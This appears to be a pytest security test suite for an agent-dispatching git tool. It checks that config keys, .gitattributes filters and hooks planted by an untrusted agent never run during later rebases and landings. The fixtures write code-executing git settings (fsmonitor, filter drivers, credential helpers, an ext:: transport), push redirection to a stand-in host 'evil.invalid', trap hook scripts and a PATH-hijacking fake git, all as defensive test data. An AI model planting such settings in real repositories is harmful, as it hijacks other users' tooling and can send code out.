"""Whatever an agent, or a test suite under verification, writes into configuration, attributes or hooks: none of it
runs in what the dispatcher does afterwards, for the same run or for another one."""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Generator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from recall.config.settings import WorkspaceSettings
from recall.domain.task import TaskRef
from recall.domain.work import Landed, PersonNeeded, Rebased, Result, Workspace
from recall.gitops.gateway import GitGateway
from recall.gitops.slot_records import SlotRecords
from recall.gitops.untrusted_settings import UntrustedSettings
from tests.gitops.ground import gateway_for, settings_for
from tests.support.hermetic_git import Repo

KEYS = (
    "core.fsmonitor", "core.editor", "core.pager", "core.sshCommand", "core.alternateRefsCommand", "core.gitProxy",
    "sequence.editor", "gpg.program", "gpg.ssh.program", "diff.external", "credential.helper", "core.askPass",
    "filter.x.clean", "filter.x.smudge", "filter.x.process", "merge.x.driver", "diff.x.textconv", "diff.x.command",
    "alias.status", "uploadpack.packObjectsHook", "receive.procReceiveRefs", "interactive.diffFilter",
)  # fmt: skip
HOOKS = (
    "pre-commit", "post-commit", "post-checkout", "post-merge", "post-rewrite", "post-index-change", "pre-push",
    "reference-transaction", "update", "pre-receive", "post-receive", "post-update", "proc-receive",
    "push-to-checkout", "pre-auto-gc", "fsmonitor-watchman",
)  # fmt: skip
#: What leads git to programs that are named elsewhere: here, every push of a local path to one over ssh.
ELSEWHERE = {
    "commit.gpgSign": "true",
    "url.ssh://evil.invalid/.insteadOf": "/",
    "url.ssh://evil.invalid/x.pushInsteadOf": "/",
    "url.ext::touch %S.insteadOf": "",
}
ATTRIBUTES = "* filter=x merge=x diff=x\n"


@dataclass
class Mine:
    """A repository full of traps; `sprung` tells whether one of them ran."""

    repo: Repo
    home: Path

    @property
    def pwned(self) -> Path:
        return self.home / "pwned"

    def trap(self, name: str) -> str:
        place = self.home / name
        place.write_text(f'#!/bin/sh\necho "$0 $@" >> {self.pwned}\ncat\n')
        place.chmod(0o755)
        return str(place)

    def configure(self, place: Path, *scope: str) -> None:
        """Plant every key; `place` is the folder in which an agent says `git config`."""
        for key in KEYS:
            subprocess.run(["git", "config", *scope, key, self.trap(f"trap-{key}")], cwd=place, check=True)
        for key, value in ELSEWHERE.items():
            subprocess.run(["git", "config", *scope, key, value], cwd=place, check=True)

    def hook(self, folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        for hook in HOOKS:
            (folder / hook).write_text(f'#!/bin/sh\necho "$0 $@" >> {self.pwned}\n')
            (folder / hook).chmod(0o755)

    @contextmanager
    def unarmed(self) -> Generator[None]:
        """What agents and people do may run what is planted: it is theirs."""
        yield
        self.pwned.unlink(missing_ok=True)

    def check(self) -> None:
        assert not self.pwned.exists(), self.pwned.read_text()


@pytest.fixture
def mine(repo: Repo, home: Path) -> Mine:
    lines = "".join(f"{number}\n" for number in range(30))
    repo.commit("code", {"code.py": lines, "other.py": "1\n", ".gitignore": "*.log\n"})
    return Mine(repo, home)


def work_on(mine: Mine, workspace: Workspace, name: str) -> None:
    """An agent's work that has to be merged with what main did meanwhile."""
    agent = Repo(workspace.tree)
    with mine.unarmed():
        text = (workspace.tree / "code.py").read_text()
        agent.write("code.py", f"{name}\n" + text)
        agent.write(".gitattributes", ATTRIBUTES)
        agent.write(f"{name}.py", name)
        agent.run("-c", "core.hooksPath=/dev/null", "-c", "commit.gpgSign=false", "add", "-A", check=False)
        agent.run("-c", "core.hooksPath=/dev/null", "-c", "commit.gpgSign=false", "commit", "-qm", name, check=False)
        agent.write(f"{name}-left.py", name)


def main_moves(mine: Mine) -> None:
    with mine.unarmed():
        text = (mine.repo.path / "code.py").read_text()
        mine.repo.write("code.py", text + "more\n")
        quiet = [word for key in ("filter.x.clean=", "filter.x.process=", "core.fsmonitor=") for word in ("-c", key)]
        quiet += ["-c", "core.hooksPath=/dev/null", "-c", "commit.gpgSign=false"]
        mine.repo.run(*quiet, "commit", "-qam", "by hand")


def land(mine: Mine, gateway: GitGateway, result: Result, merge_id: int) -> None:
    onto = mine.repo.tip("main")
    rebased = gateway.rebase(base=result.base, tip=result.tip, onto=onto, trailers={"Recall-Task": "T"})
    mine.check()
    assert isinstance(rebased, Rebased)
    slot = gateway.open_slot(rebased.candidate)
    mine.check()
    assert gateway.slot_changes(slot, rebased.candidate) == ()
    mine.check()
    landed = gateway.land(merge_id=merge_id, old=onto, new=rebased.candidate, reflog="test")
    mine.check()
    assert isinstance(landed, Landed)
    for path in mine.repo.files(rebased.candidate):
        assert (mine.repo.path / path).read_bytes() == mine.repo.file(path, rebased.candidate)


@pytest.mark.parametrize("dirty", [False, True])
@pytest.mark.parametrize(
    ("kind", "scope"),
    [("worktree", "--local"), ("worktree", "--global"), ("clone", "--local"), ("clone", "--global")],
)
def test_nothing_runs_for_the_planter_or_for_anybody_after_it(mine: Mine, kind: str, scope: str, dirty: bool) -> None:
    settings = replace(settings_for(mine.repo), workspaces=WorkspaceSettings(kind=kind))
    gateway = gateway_for(mine.repo, settings)
    planter = gateway.open_workspace(TaskRef("main", "T-1"), 1, 1)
    mine.configure(planter.tree, scope)
    mine.hook(Path(Repo(planter.tree).git("rev-parse", "--path-format=absolute", "--git-path", "hooks")))
    work_on(mine, planter, "planter")
    honest = gateway.open_workspace(TaskRef("main", "T-2"), 1, 2)
    mine.check()
    work_on(mine, honest, "honest")
    main_moves(mine)
    if dirty:
        mine.repo.write("other.py", "edited by the user\n")
    result = gateway.collect(honest, 2, "honest work")
    mine.check()
    assert isinstance(result, Result)
    if dirty:
        onto = mine.repo.tip("main")
        rebased = gateway.rebase(base=result.base, tip=result.tip, onto=onto, trailers={})
        assert isinstance(rebased, Rebased)
        assert isinstance(gateway.land(merge_id=1, old=onto, new=rebased.candidate, reflog="test"), Landed)
    else:
        land(mine, gateway, result, 1)
    gateway.close_workspace(honest, 2, landed=True)
    mine.check()

    outcome = gateway.collect(planter, 1, "its own")
    mine.check()
    if (kind, scope) == ("clone", "--local"):
        assert isinstance(outcome, Result)
    else:
        assert isinstance(outcome, PersonNeeded)
        assert any("filter.x.clean" in path for path in outcome.paths)
    assert "left" in gateway.close_workspace(planter, 1, landed=False) or kind == "clone"
    mine.check()
    again = gateway_for(mine.repo, settings)
    mine.check()
    again.tidy_workspaces([])
    third = again.open_workspace(TaskRef("main", "T-3"), 1, 3)
    mine.check()
    assert (third.tree / "honest.py").read_text() == "honest"


@pytest.mark.parametrize("scope", ["--local", "--global"])
def test_what_a_test_suite_plants_does_not_run_for_the_next_landing(mine: Mine, scope: str) -> None:
    gateway = gateway_for(mine.repo)
    one = gateway.open_workspace(TaskRef("main", "T-1"), 1, 1)
    two = gateway.open_workspace(TaskRef("main", "T-2"), 1, 2)
    work_on(mine, one, "one")
    first, second = gateway.collect(one, 1, "one"), None
    assert isinstance(first, Result)
    work_on(mine, two, "two")
    second = gateway.collect(two, 2, "two")
    assert isinstance(second, Result)
    slot = gateway.open_slot(first.tip)
    mine.configure(slot, scope)
    mine.hook(slot / ".git" / "hooks")
    assert gateway.slot_changes(slot, first.tip) == ()
    mine.check()
    main_moves(mine)
    land(mine, gateway, first, 1)
    gateway.close_workspace(one, 1, landed=True)
    mine.check()
    assert gateway.slot_changes(gateway.open_slot(second.tip), second.tip) == ()
    gateway.close_workspace(two, 2, landed=False)
    gateway_for(mine.repo).open_workspace(TaskRef("main", "T-3"), 1, 3)
    mine.check()


@pytest.mark.parametrize("kind", ["worktree", "clone"])
def test_who_removes_its_folder_after_it_planted_something_is_not_forgotten(mine: Mine, kind: str) -> None:
    """Else the next run would begin with it, as if it had always been there."""
    settings = replace(settings_for(mine.repo), workspaces=WorkspaceSettings(kind=kind))
    gateway = gateway_for(mine.repo, settings)
    planter = gateway.open_workspace(TaskRef("main", "T-1"), 1, 1)
    git_dir = Path(Repo(planter.tree).git("rev-parse", "--absolute-git-dir"))
    mine.configure(planter.tree, "--local" if kind == "worktree" else "--global")
    shutil.rmtree(git_dir)
    assert isinstance(gateway.collect(planter, 1, "its own"), PersonNeeded)
    assert "config filter.x.smudge" in gateway.close_workspace(planter, 1, landed=False)
    honest = gateway.open_workspace(TaskRef("main", "T-2"), 1, 2)
    work_on(mine, honest, "honest")
    main_moves(mine)
    result = gateway.collect(honest, 2, "honest work")
    assert isinstance(result, Result)
    land(mine, gateway, result, 1)
    gateway.open_workspace(TaskRef("main", "T-3"), 1, 3)
    mine.check()


def test_a_filter_that_a_commit_names_is_off_before_an_agent_at_work_defines_it(mine: Mine) -> None:
    mine.repo.git("config", "filter.ours.smudge", "cat")
    tip = mine.repo.commit("attributes", {"sub/.gitattributes": "*.a filter=later\n*.b -text filter=ours\n"})
    gateway = gateway_for(mine.repo)
    untrusted = UntrustedSettings(mine.repo.git_dir, SlotRecords(gateway.repository.state_dir))
    before = untrusted.switched_off(tip)
    assert {"filter.later.smudge=", "filter.later.clean=", "filter.later.process="} <= set(before)
    assert not any(one.startswith("filter.ours.") for one in before)
    gateway.open_workspace(TaskRef("main", "T-1"), 1, 1)
    assert untrusted.switched_off(tip) == before


def test_a_filter_that_is_defined_while_it_is_looked_for_is_off(mine: Mine, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whichever of the calls that look an agent gets between."""
    tip = mine.repo.commit("attributes", {".gitattributes": "* filter=later\n"})
    gateway = gateway_for(mine.repo)
    gateway.open_workspace(TaskRef("main", "T-1"), 1, 1)
    untrusted = UntrustedSettings(mine.repo.git_dir, SlotRecords(gateway.repository.state_dir))
    git, door = shutil.which("git"), mine.home / "bin/git"
    door.parent.mkdir()
    plant = f"{git} config --global filter.later.clean {mine.trap('later')}"
    for call in ("config", "grep"):
        door.write_text(f'#!/bin/sh\ncase " $* " in *" {call} "*) {plant};; esac\nexec {git} "$@"\n')
        door.chmod(0o755)
        with monkeypatch.context() as patch:
            patch.setenv("PATH", f"{door.parent}:{os.environ['PATH']}")
            off = untrusted.switched_off(tip)
        assert "filter.later.clean=" in off, call
        mine.repo.git("config", "--global", "--unset", "filter.later.clean")


def test_the_users_own_filters_still_work(mine: Mine) -> None:
    """Those that were there before any agent, in either configuration."""
    upper, lower = "tr a-z A-Z", "tr A-Z a-z"
    mine.repo.git("config", "--global", "filter.loud.clean", lower)
    mine.repo.git("config", "--global", "filter.loud.smudge", upper)
    mine.repo.commit("loud", {".gitattributes": "*.txt filter=loud\n"})
    gateway = gateway_for(mine.repo)
    workspace = gateway.open_workspace(TaskRef("main", "T-1"), 1, 1)
    (workspace.tree / "a.txt").write_text("HELLO\n")
    result = gateway.collect(workspace, 1, "t")
    assert isinstance(result, Result)
    assert Repo(gateway.integration.git_dir).file("a.txt", result.tip) == b"hello\n"
    land_plain(mine, gateway, result)
    assert (mine.repo.path / "a.txt").read_text() == "HELLO\n"
    gateway.close_workspace(workspace, 1, landed=True)
    again = gateway.open_workspace(TaskRef("main", "T-2"), 1, 2)
    assert (again.tree / "a.txt").read_text() == "HELLO\n"
    assert Repo(again.tree).status() == []


def land_plain(mine: Mine, gateway: GitGateway, result: Result) -> None:
    onto = mine.repo.tip("main")
    rebased = gateway.rebase(base=result.base, tip=result.tip, onto=onto, trailers={})
    assert isinstance(rebased, Rebased)
    slot = gateway.open_slot(rebased.candidate)
    assert (slot / "a.txt").read_text() == "HELLO\n"
    assert gateway.slot_changes(slot, rebased.candidate) == ()
    assert isinstance(gateway.land(merge_id=1, old=onto, new=rebased.candidate, reflog="test"), Landed)
